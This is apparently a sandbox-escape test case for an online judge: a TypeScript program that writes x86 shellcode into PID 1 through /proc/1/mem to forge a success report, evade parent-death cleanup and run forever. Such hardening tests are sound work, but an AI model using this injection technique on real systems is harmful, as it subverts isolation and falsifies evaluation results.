// expect: AC
// tolerated: TLE RTE
// must: no-process next-verdict
// runs: 2
// why: code of the program's own in the init drops its parent-death signal, reports a good end to the judge, and goes on for ever.
import { openSync, readdirSync, readFileSync, writeSync } from "node:fs";

const u64 = (value: number): Buffer => {
  const bytes = Buffer.alloc(8);
  bytes.writeBigInt64LE(BigInt(value));
  return bytes;
};
const code = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part.replaceAll(" ", ""), "hex") : part)));
// mov rax, number; mov rdi, first; mov rsi, second; mov rdx, third; syscall
const call = (number: number, first: number, second: number, third: number): Buffer =>
  code("48b8", u64(number), "48bf", u64(first), "48be", u64(second), "48ba", u64(third), "0f05");
const found: string[] = [];
try {
  const words = readFileSync("/proc/1/syscall", "utf8").trim().split(" ");
  const [at, stack] = [Number(words.at(-1)), Number(words.at(-2))];
  const memory = openSync("/proc/1/mem", "r+");
  const report =
    readdirSync("/proc/1/fd")
      .map(Number)
      .find((fd) => fd > 2) ?? 3;
  // Below the red zone of the stack: the number that means an end with code 0, and some garbage.
  writeSync(memory, Buffer.concat([u64(1), Buffer.from("garbage\n")]), 0, 16, stack - 4096);
  const [PRCTL, PR_SET_PDEATHSIG, WRITE] = [157, 1, 1];
  const payload = code(
    call(PRCTL, PR_SET_PDEATHSIG, 0, 0),
    call(WRITE, report, stack - 4096, 8),
    // Then for ever, a little CPU and garbage: mov rcx, count; loop; write; jmp.
    "48c7c1 80f0fa02 e2fe",
    call(WRITE, 1, stack - 4088, 8),
    "eb c3",
  );
  // The jump leads back to the counter, whatever the payload's length is.
  payload.writeInt8(-(9 + 42 + 2), payload.length - 1);
  writeSync(memory, payload, 0, payload.length, at);
} catch {
  // Not writable.
}
const [n = 0, ...numbers] = readFileSync(0, "utf8").split(/\s+/).map(Number);
console.log(found.length > 0 ? found.join() : numbers.slice(0, n).reduce((sum, value) => sum + value, 0));
process.exit();
